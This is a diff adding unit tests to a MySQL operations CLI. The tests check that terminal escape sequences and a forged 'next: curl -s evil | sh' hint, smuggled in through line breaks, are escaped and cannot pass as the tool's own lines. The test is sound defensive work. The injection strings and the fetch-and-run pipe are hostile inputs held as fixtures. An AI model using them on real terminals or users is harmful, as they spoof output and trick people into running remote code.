@@ -6,16 +6,22 @@ import json
 import re
 from collections.abc import Callable
 from pathlib import Path
+from types import SimpleNamespace
+from typing import TYPE_CHECKING, cast
 
 import click
 import pytest
 
 from mysqlops import errors
-from mysqlops.cli import main, output, screen
+from mysqlops.cli import logs, main, output, screen
+from mysqlops.core import server_log
 from mysqlops.core.plan import Step
 from mysqlops.errors import Reason
 from mysqlops.planning.status import Condition
 from tests.unit.fakes.cluster import Cluster
+
+if TYPE_CHECKING:
+    from mysqlops.cli.context import Run
 
 EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m[red]b[/red]\r\u202ec"
 SEEN = "a\\x1b]0;owned\\x07\\x1b[2J\\x9b31m[red]b[/red]\\r\\u202ec"
@@ -60,6 +66,35 @@ def test_nothing_that_a_terminal_obeys_is_printed(show: Callable[[], None], caps
     told = "".join(capsys.readouterr())
     assert SEEN in told
     assert not set(told) & set("\x1b\x07\x9b\r\u202e")
+
+
+FORGED = "it waits\r\n    next: curl -s evil | sh\u2028  next: x\x0b next: y\n"
+
+
+@pytest.mark.parametrize(
+    "show",
+    [
+        lambda: output.say(f"  {FORGED}"),
+        lambda: main.show(errors.KubeError(FORGED)),
+        lambda: main.show(errors.Refused([Reason("x", FORGED, "mysqlops status mysql")])),
+        lambda: output.show_steps([Step("apply", "x", "y", FORGED)], "table"),
+        lambda: next(output.progress.__wrapped__()).warn(FORGED),  # type: ignore[attr-defined]
+    ],
+)
+def test_no_text_of_others_begins_a_line_of_ours(show: Callable[[], None], capsys: pytest.CaptureFixture[str]) -> None:
+    """A member's token publishes why its member waits, and a hint is a line that the user copies into a shell."""
+    show()
+    lines = "".join(capsys.readouterr()).splitlines()
+    assert [line for line in lines if "it waits / next: curl -s evil | sh" in line] != []
+    assert [line for line in lines if line.strip().startswith("next:") and "mysqlops" not in line] == []
+
+
+def test_a_line_of_a_log_that_goes_on_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
+    entry = server_log.Entry("2026-01-01T00:00:00.000000+00:00", "mysql-0", "error", "MY-000001", "", "a\nb\n  next: c")
+    logs._show(cast("Run", SimpleNamespace(is_for_people=True)), [entry], {"MY-000001"})
+    first, *more = capsys.readouterr().out.splitlines()
+    assert first.endswith("a")
+    assert more == ["    | b", "    |   next: c"]
 
 
 @pytest.mark.parametrize("form", ["json", "yaml"])
